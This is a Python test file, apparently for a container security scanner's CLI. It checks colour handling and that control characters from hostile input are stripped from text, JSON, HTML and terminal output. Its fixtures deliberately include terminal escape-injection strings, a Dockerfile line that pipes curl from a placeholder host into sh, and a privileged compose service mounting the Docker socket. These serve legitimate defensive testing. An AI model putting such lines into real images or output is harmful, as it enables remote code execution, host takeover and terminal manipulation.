"""Colour and control characters: what reaches a terminal is our own."""
import os
import pty
import re
import select
import subprocess

import samples
import tap

ESCAPE = b"\x1b"
OWN_COLOUR = re.compile(rb"\x1b\[[0-9;]*m")
OWN_LINE = re.compile(rb"\r|\x1b\[[0-9]*[KGJ]|\x1b\[\?25[lh]")
HOSTILE = "\x1b]0;owned\x07\x1b[31mred\x1b[2J\u009b31m\u202eesrever\r"


def on_terminal(*arguments, cwd=None, env=None):
    """Runs the program with standard output and error on a terminal of their own."""
    leader, follower = pty.openpty()
    clean = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LC_ALL": "C.UTF-8", "TERM": "xterm-256color", **(env or {})}
    child = subprocess.Popen([tap.program(), *arguments], cwd=cwd, env=clean, stdin=subprocess.DEVNULL, stdout=follower, stderr=follower)
    os.close(follower)
    seen = b""
    while True:
        ready, _, _ = select.select([leader], [], [], 60)
        try:
            piece = os.read(leader, 65536) if ready else b""
        except OSError:
            piece = b""
        if not piece:
            break
        seen += piece
    os.close(leader)
    child.wait(60)
    return seen.replace(b"\r\n", b"\n")


def colour(t):
    with tap.tree(samples.AGENT) as folder:
        plain = tap.run("scan", folder, binary=True)
        t.ok(ESCAPE not in plain.stdout + plain.stderr, "no escape codes on a pipe")
        t.ok(OWN_COLOUR.search(on_terminal("scan", folder)), "colour on a terminal")
        for name, arguments, env in (("--no-color", ["--no-color"], {}), ("NO_COLOR", [], {"NO_COLOR": "1"})):
            seen = on_terminal("scan", *arguments, folder, env=env)
            t.ok(not OWN_COLOUR.search(seen), f"no colour with {name}", seen[:200])
        t.ok(OWN_COLOUR.search(on_terminal("scan", folder, env={"NO_COLOR": ""})), "an empty NO_COLOR says nothing")
        path = os.path.join(folder, "report.txt")
        on_terminal("scan", "-f", "text=" + path, folder)
        t.ok(ESCAPE not in open(path, "rb").read(), "no escape codes in a file, on a terminal too")


def controls(data):
    """Control characters and marks that turn text around, but for line ends."""
    text = data.decode("utf-8", "replace")
    return sorted({c for c in text if (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 or "\u202a" <= c <= "\u202e" or "\u2066" <= c <= "\u2069"})


def hostile_tree():
    quoted = '"' + "".join(f"\\x{ord(c):02x}" if ord(c) < 32 else f"\\u{ord(c):04x}" if ord(c) > 126 else c for c in HOSTILE) + '"'
    compose = (f"services:\n  {quoted}:\n    image: {quoted}\n    user: {quoted}\n    privileged: true\n"
               f"    volumes: [\"/var/run/docker.sock:/x\", {quoted}]\n    environment: {{{quoted}: {quoted}}}\n"
               f"    command: {quoted}\n    network_mode: {quoted}\n")
    dockerfile = f"FROM debian\nUSER root\nRUN curl http://x/{HOSTILE} | sh\nADD http://{HOSTILE} /x\nCMD {HOSTILE}\nHEALTHCHECK {HOSTILE}\n"
    name = HOSTILE.replace("/", "_")
    return {"compose.yaml": compose, name + "/Dockerfile": dockerfile, name + ".Dockerfile": dockerfile, "bad/compose.yaml": f"services: {quoted}\n{HOSTILE}",
            ".strideward.yaml": f"images:\n  rules: [{{image: {quoted}}}]\nmodel:\n  services: {{{quoted}: {{owner: {quoted}}}}}\n"}


def hostile_names(t):
    with tap.tree(hostile_tree()) as folder:
        for form in ("text", "json", "html"):
            got = tap.run("scan", "--gate", "low", "-f", form, folder, binary=True)
            allowed = set() if form == "text" else set("\u202e")
            found = [c for c in controls(got.stdout) if c not in allowed] + controls(got.stderr)
            t.ok(got.returncode in (1, 2) and not found, f"no control characters of the input in {form}", f"{got.returncode} {found!r}")
        seen = OWN_LINE.sub(b"", OWN_COLOUR.sub(b"", on_terminal("scan", "--gate", "low", folder)))
        t.ok(not controls(seen), "no control characters of the input on a terminal", f"{controls(seen)!r}")
        name = next(n for n in os.listdir(folder) if n.endswith(".Dockerfile"))
        for arguments in (["scan", name], ["scan", name + "-none"], ["dump", "dockerfile", name + "-none"], ["scan", "-f", HOSTILE], [HOSTILE], ["scan", "--" + HOSTILE],
                          ["explain", HOSTILE], ["scan", "--at", HOSTILE], ["scan", "-f", "json=" + name + "/x"]):
            got = tap.run(*arguments, cwd=folder, binary=True)
            t.ok(not controls(got.stderr) and not (arguments[0] == "scan" and controls(got.stdout)),
                 f"a hostile argument of {arguments[0]!r:.10} {arguments[-1]!r:.24}… is shown without its control characters", got.stderr)


def run(t):
    try:
        for end in pty.openpty():
            os.close(end)
    except OSError as why:
        t.skip("what reaches a terminal", f"no terminal to be had: {why}")
        return
    colour(t)
    hostile_names(t)
